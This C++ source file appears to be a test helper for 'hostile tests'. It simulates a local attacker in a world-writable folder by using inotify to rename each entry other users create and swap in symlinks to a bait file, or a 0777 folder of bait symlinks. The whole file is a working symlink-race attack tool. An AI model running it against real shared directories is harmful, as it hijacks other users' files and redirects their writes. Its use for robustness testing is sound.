// Another local user, for the hostile tests: in a folder that others can write (without the
// sticky bit), it takes over every entry another user makes there, the moment it appears, and
// puts links to a bait file in its place, so that a program that follows a name instead of
// holding what it made writes into the bait.
//
//   name_swapper [--as-daemon] FOLDER BAIT
//
// Prints "ready" once it watches, then runs until a line (or the end) on its standard input, and
// prints "swaps N" with the number of entries it took over. Each entry of another user's is renamed
// to NAME.taken; in its place goes a link to BAIT, or, for a folder, a folder of its own (mode
// 0777) holding links to BAIT under the names a job's private folder uses.

#include <fcntl.h>
#include <grp.h>
#include <poll.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <iostream>
#include <string>

namespace {

constexpr uid_t kDaemon = 1;

bool becomeDaemon() {
    return setgroups(0, nullptr) == 0 && setresgid(kDaemon, kDaemon, kDaemon) == 0 &&
           setresuid(kDaemon, kDaemon, kDaemon) == 0 && geteuid() == kDaemon;
}

bool takeOver(const std::string& folder, const std::string& name, const std::string& bait) {
    const std::string path = folder + "/" + name;
    struct stat info {};
    if (::lstat(path.c_str(), &info) != 0 || info.st_uid == ::geteuid()) {
        return false;
    }
    if (::rename(path.c_str(), (path + ".taken").c_str()) != 0) {
        return false;
    }
    if (S_ISDIR(info.st_mode)) {
        ::mkdir(path.c_str(), 0777);
        ::chmod(path.c_str(), 0777);
        for (const char* inner : {"output.avi", "lock", "output"}) {
            ::symlink(bait.c_str(), (path + "/" + inner).c_str());
        }
    } else {
        ::symlink(bait.c_str(), path.c_str());
    }
    return true;
}

}  // namespace

int main(int argc, char** argv) {
    int arg = 1;
    if (arg < argc && std::string(argv[arg]) == "--as-daemon") {
        if (!becomeDaemon()) {
            std::cout << "cannot become daemon: " << std::strerror(errno) << std::endl;
            return 3;
        }
        ++arg;
    }
    if (argc - arg != 2) {
        std::cerr << "usage: name_swapper [--as-daemon] FOLDER BAIT\n";
        return 2;
    }
    const std::string folder = argv[arg];
    const std::string bait = argv[arg + 1];
    const int watch = inotify_init1(IN_CLOEXEC);
    if (watch < 0 || inotify_add_watch(watch, folder.c_str(), IN_CREATE | IN_MOVED_TO) < 0) {
        std::cout << "cannot watch " << folder << ": " << std::strerror(errno) << std::endl;
        return 3;
    }
    std::cout << "ready" << std::endl;
    int swaps = 0;
    alignas(inotify_event) char buffer[65536];
    for (;;) {
        pollfd fds[2] = {{watch, POLLIN, 0}, {STDIN_FILENO, POLLIN, 0}};
        if (::poll(fds, 2, -1) < 0 && errno != EINTR) {
            break;
        }
        if (fds[1].revents != 0) {
            break;
        }
        if ((fds[0].revents & POLLIN) == 0) {
            continue;
        }
        const ssize_t got = ::read(watch, buffer, sizeof buffer);
        for (ssize_t at = 0; at < got;) {
            const auto* event = reinterpret_cast<const inotify_event*>(buffer + at);
            const std::string name = event->len > 0 ? event->name : "";
            if (!name.empty() && name.find(".taken") == std::string::npos &&
                takeOver(folder, name, bait)) {
                ++swaps;
            }
            at += static_cast<ssize_t>(sizeof(inotify_event) + event->len);
        }
    }
    std::cout << "swaps " << swaps << std::endl;
    return 0;
}
